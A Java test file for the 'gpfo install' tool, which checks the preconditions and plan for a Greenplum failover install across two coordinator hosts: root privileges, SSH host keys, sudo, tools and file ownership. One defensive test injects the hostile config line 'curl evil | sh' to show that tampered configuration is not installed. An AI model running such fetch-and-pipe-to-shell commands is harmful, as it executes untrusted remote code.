package io.gpfo.install;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.gpfo.node.NodeName;
import io.gpfo.port.CommandResult;
import io.gpfo.sql.DatabaseStatus;
import io.gpfo.ssh.SshException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * gpfo install up to the point where it would change something: the preconditions (each one
 * line, every one checked, an unsafe one outweighing the rest) and the plan. Nothing here may
 * run a command that changes a host.
 */
class InstallFlowTest {

    @TempDir
    Path dir;

    private FlowFixture hosts;

    @BeforeEach
    void hosts() throws Exception {
        hosts = new FlowFixture(dir);
    }

    private InstallPlan plan(Optional<InitSystem> init) throws Exception {
        try (InstallFlow.Prepared prepared = new InstallFlow(hosts.ports()).prepare(hosts.request(init))) {
            return prepared.plan();
        }
    }

    private InstallStopped stopped(Optional<InitSystem> init) {
        return catchThrowableOfType(() -> plan(init), InstallStopped.class);
    }

    @Test
    void notRootStopsBeforeAnythingElse() {
        InstallStopped stopped = catchThrowableOfType(() -> Preconditions.requireRoot(false, "gpadmin", hosts.log, "install"),
                InstallStopped.class);

        assertThat(stopped.reason()).isEqualTo(InstallStopped.Reason.NOT_ROOT);
        assertThat(stopped).hasMessage("gpfo install changes system files on both coordinator hosts; run it as root: sudo"
                + " gpfo install; nothing was changed");
        assertThat(hosts.log.lines()).containsExactly("FAILED  running as root: running as gpadmin");
    }

    @Test
    void rootGoesOn() throws InstallStopped {
        Preconditions.requireRoot(true, "root", hosts.log, "uninstall");

        assertThat(hosts.log.lines()).containsExactly("OK      running as root");
    }

    @Test
    void itRunsOnTheCoordinatorHostOnly() {
        hosts.local = NodeName.STANDBY;

        InstallStopped stopped = stopped(Optional.empty());

        assertThat(stopped.reason()).isEqualTo(InstallStopped.Reason.NOT_THE_COORDINATOR);
        assertThat(stopped).hasMessageContaining("run gpfo install on the coordinator host mdw");
        assertThat(hosts.log.lines()).containsExactly(
                "FAILED  this host is the coordinator: this is smdw, the configured standby host");
        assertThat(hosts.remoteCommands).isEmpty();
    }

    @Test
    void prepareChecksEverythingBuildsThePlanAndChangesNothing() throws Exception {
        List<String> plan = plan(Optional.empty()).lines();

        assertThat(hosts.log.lines()).containsExactly(
                "OK      this host is the coordinator mdw",
                "OK      distribution " + hosts.home + " (gpfo 0.1.0)",
                "OK      Greenplum on mdw is primary; a standby streams from it (lag 0 bytes)",
                "OK      ssh gpadmin@smdw (host key verified against /home/gpadmin/.ssh/known_hosts)",
                "OK      sudo -n on smdw as gpadmin",
                "OK      tools, java 17 and user gpadmin on mdw; init: sysv (no /run/systemd/system)",
                "OK      tools, java 17 and user gpadmin on smdw; init: sysv (no /run/systemd/system)");
        String text = String.join("\n", plan) + "\n";
        assertThat(text).startsWith("gpfo install plan: gpfo 0.1.0 from " + hosts.home + "\n"
                + "  on smdw (over SSH as gpadmin, as root through sudo -n; init: sysv, registered with update-rc.d):\n");
        assertThat(text).contains("  on mdw (this host; init: sysv, registered with update-rc.d):\n",
                "    file       /etc/sudoers.d/gpfo ", "    run        /etc/init.d/gpfo restart   (if anything above changed)\n",
                "  then:\n    VIP 10.77.0.100/24 up on mdw (eth0:0) with gratuitous ARP, if no host holds it\n    gpfo status\n");
        assertThat(hosts.remoteCommands).hasSize(2);
        assertThat(hosts.localCommands).hasSize(1);
    }

    @Test
    void theInitSystemCanBeChosen() throws Exception {
        hosts.remoteFacts = FlowFixture.FACTS.replace("systemd=no", "systemd=yes") + "tool.systemctl=/usr/bin/systemctl\n";

        assertThat(plan(Optional.of(InitSystem.SYSV)).lines())
                .contains("  on smdw (over SSH as gpadmin, as root through sudo -n; init: sysv, registered with update-rc.d):");
        assertThat(plan(Optional.empty()).lines()).contains("  on smdw (over SSH as gpadmin, as root through sudo -n; init:"
                + " systemd):").anyMatch(line -> line.contains("/etc/systemd/system/gpfo.service"));

        InstallStopped stopped = stopped(Optional.of(InitSystem.SYSTEMD));
        assertThat(stopped.reason()).isEqualTo(InstallStopped.Reason.PRECONDITIONS_NOT_MET);
        assertThat(hosts.log.lines()).anyMatch(line -> line.startsWith(
                "FAILED  init system on mdw: --init systemd, but systemd does not run there"));
    }

    @Test
    void aChangedHostKeyIsUnsafeAndStopsBeforeTouchingAnything() {
        hosts.sshFailure = new SshException(SshException.Kind.HOST_KEY, "smdw", "the host key of smdw has CHANGED since it"
                + " was recorded in /home/gpadmin/.ssh/known_hosts", null);

        InstallStopped stopped = stopped(Optional.empty());

        assertThat(stopped.reason()).isEqualTo(InstallStopped.Reason.UNSAFE);
        assertThat(stopped.getMessage()).endsWith("nothing was changed");
        assertThat(hosts.log.lines()).contains("FAILED  ssh gpadmin@smdw: the host key of smdw has CHANGED since it was recorded"
                + " in /home/gpadmin/.ssh/known_hosts — gpfo install refuses to touch a host whose key is not verified");
        assertThat(hosts.remoteCommands).isEmpty();
    }

    @Test
    void anUnsafePeerOutweighsOtherFailures() {
        hosts.database = new DatabaseStatus(false, 150018, OptionalInt.of(1), List.of(), Optional.empty());
        hosts.sshFailure = new SshException(SshException.Kind.HOST_KEY, "smdw", "the host key of smdw is not known", null);

        assertThat(stopped(Optional.empty()).reason()).isEqualTo(InstallStopped.Reason.UNSAFE);
    }

    @Test
    void anUnreachablePeerIsAFailedPrecondition() {
        hosts.sshFailure = new SshException(SshException.Kind.UNREACHABLE, "smdw", "no route to smdw", null);

        InstallStopped stopped = stopped(Optional.empty());

        assertThat(stopped.reason()).isEqualTo(InstallStopped.Reason.PRECONDITIONS_NOT_MET);
        assertThat(hosts.log.lines()).contains("FAILED  ssh gpadmin@smdw: no route to smdw — make smdw reachable over SSH"
                + " (gpfo check shows the details)");
    }

    @Test
    void everyPreconditionIsCheckedAndEachFailureSaysTheFix() {
        hosts.database = new DatabaseStatus(false, 150018, OptionalInt.of(1), List.of(), Optional.empty());
        hosts.sudo = new CommandResult(1, "", "sudo: a password is required", false, Duration.ZERO);

        InstallStopped stopped = stopped(Optional.empty());

        assertThat(stopped.reason()).isEqualTo(InstallStopped.Reason.PRECONDITIONS_NOT_MET);
        assertThat(stopped).hasMessage("2 precondition(s) of install not met (standby streaming, sudo -n on smdw); nothing was"
                + " changed");
        assertThat(hosts.log.lines()).contains("FAILED  standby streaming: no standby streams from mdw (no streaming WAL sender)"
                + " — set up the standby first (gpinitstandby -s smdw) and let it catch up")
                .anyMatch(line -> line.startsWith("FAILED  sudo -n on smdw: gpadmin cannot run commands as root there without a"
                        + " password (exit 1: sudo: a password is required) — give gpadmin passwordless sudo on smdw"));
    }

    @Test
    void missingToolsOnThePeerAreNamedWithTheirPackages() {
        hosts.remoteFacts = FlowFixture.FACTS.replace("tool.arping=/usr/bin/arping\n", "").replace("user.group=gpadmin\n", "");

        assertThat(stopped(Optional.empty()).reason()).isEqualTo(InstallStopped.Reason.PRECONDITIONS_NOT_MET);
        assertThat(hosts.log.lines()).contains("FAILED  tools on smdw: missing: arping — install iputils-arping (RHEL: iputils)",
                "FAILED  admin user on smdw: user gpadmin does not exist — create the Greenplum admin user there, or set"
                        + " greenplum.admin_user");
    }

    @Test
    void aDistributionWithoutItsVersionIsAFailedPrecondition() throws Exception {
        InstallFlow.Request request = new InstallFlow.Request(Optional.of(hosts.home), "unknown",
                hosts.request(Optional.empty()).configYaml(), Optional.empty(), true);

        InstallStopped stopped = catchThrowableOfType(() -> new InstallFlow(hosts.ports()).prepare(request).close(),
                InstallStopped.class);

        assertThat(stopped.reason()).isEqualTo(InstallStopped.Reason.PRECONDITIONS_NOT_MET);
        assertThat(hosts.log.lines()).contains("FAILED  distribution: this build does not know its version — use a release build");
    }

    @Test
    void aFailedStepSaysWhereItStoppedAndWhatWasDoneBefore() {
        Step step = new Step.Run(List.of("/etc/init.d/gpfo", "start"), new Step.When.Always());

        assertThat(BothHosts.stoppedMessage("install", new InstallFailure("mdw", step, 3, 1, "exit 1"), "smdw"))
                .isEqualTo("install stopped at 'run /etc/init.d/gpfo start' on mdw (3 step(s) before it done there, 1 of them"
                        + " changed something; smdw was done before it); nothing after it was tried.");
        assertThat(BothHosts.stoppedMessage("uninstall", new InstallFailure("smdw", step, 0, 0, "exit 1"), "smdw"))
                .isEqualTo("uninstall stopped at 'run /etc/init.d/gpfo start' on smdw (0 step(s) before it done there, 0 of"
                        + " them changed something); nothing after it was tried.");
    }

    @Test
    void theConfigurationInstalledIsTheOneValidatedEvenIfTheFileChangedMeanwhile() throws Exception {
        String validated = java.nio.file.Files.readString(hosts.config);
        hosts.whileGatheringFacts = () -> {
            try {
                java.nio.file.Files.writeString(hosts.config, validated + "alerts: {command: 'curl evil | sh'}\n");
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        };

        InstallPlan plan = plan(Optional.empty());

        assertThat(plan.hosts()).hasSize(2).allSatisfy(host -> assertThat(host.steps()).filteredOn(Step.File.class::isInstance)
                .map(Step.File.class::cast).filteredOn(file -> file.path().equals(Layout.CONFIG)).singleElement()
                .extracting(Step.File::content).isEqualTo(validated));
    }

    @Test
    void asRootARootOwnedTreeNoOneElseCanWriteIsTaken() throws Exception {
        hosts.tree = List.of(FlowFixture.entry(hosts.home, 0, 0755), FlowFixture.entry(hosts.home.resolve("bin/gpfo"), 0, 0755),
                new DistributionTree.Entry(hosts.home.resolve("runtime/lib/security/cacerts"), 0, 0777, true, true));

        plan(Optional.empty());

        assertThat(hosts.log.lines()).contains("OK      distribution " + hosts.home + " (gpfo 0.1.0)");
    }

    @Test
    void asRootATreeOwnedByAnotherUserIsRefusedWithTheFix() {
        hosts.tree = List.of(FlowFixture.entry(hosts.home, 0, 0755), FlowFixture.entry(hosts.home.resolve("lib"), 1000, 0755),
                FlowFixture.entry(hosts.home.resolve("lib/gpfo.jar"), 1000, 0644));

        InstallStopped stopped = stopped(Optional.empty());

        assertThat(stopped.reason()).isEqualTo(InstallStopped.Reason.UNSAFE);
        assertThat(stopped).hasMessageStartingWith("1 precondition(s) of install not met (distribution)");
        assertThat(hosts.log.lines()).filteredOn(line -> line.contains("distribution")).containsExactly("FAILED  distribution: "
                + hosts.home.resolve("lib") + " is owned by uid 1000, not root (and 1 more) — gpfo install copies the tree and"
                + " runs it as root; chown -R root:root " + hosts.home + " && chmod -R go-w " + hosts.home + ", or unpack the"
                + " release tarball as root");
    }

    @Test
    void asRootATreeItsGroupOrOthersCanWriteIsRefused() {
        hosts.tree = List.of(FlowFixture.entry(hosts.home, 0, 0755), FlowFixture.entry(hosts.home.resolve("bin"), 0, 0775));

        assertThat(stopped(Optional.empty()).reason()).isEqualTo(InstallStopped.Reason.UNSAFE);
        assertThat(hosts.log.lines()).contains("FAILED  distribution: " + hosts.home.resolve("bin") + " is writable by its group"
                + " or others (mode 0775) — gpfo install copies the tree and runs it as root; chown -R root:root " + hosts.home
                + " && chmod -R go-w " + hosts.home + ", or unpack the release tarball as root");
    }

    @Test
    void asRootALinkLeadingOutOfTheTreeIsRefused() {
        hosts.tree = List.of(FlowFixture.entry(hosts.home, 0, 0755),
                new DistributionTree.Entry(hosts.home.resolve("lib/gpfo.jar"), 1000, 0777, true, false));

        assertThat(stopped(Optional.empty()).reason()).isEqualTo(InstallStopped.Reason.UNSAFE);
        assertThat(hosts.log.lines()).contains("FAILED  distribution: " + hosts.home.resolve("lib/gpfo.jar") + " is a symlink"
                + " that leads out of the distribution — gpfo install copies the tree and runs it as root; unpack the"
                + " release tarball again, as root");
    }

    @Test
    void notAsRootTheTreeIsNotRead() throws Exception {
        hosts.root = false;
        hosts.tree = null;

        plan(Optional.empty());

        assertThat(hosts.log.lines()).contains("OK      distribution " + hosts.home + " (gpfo 0.1.0)");
    }
}
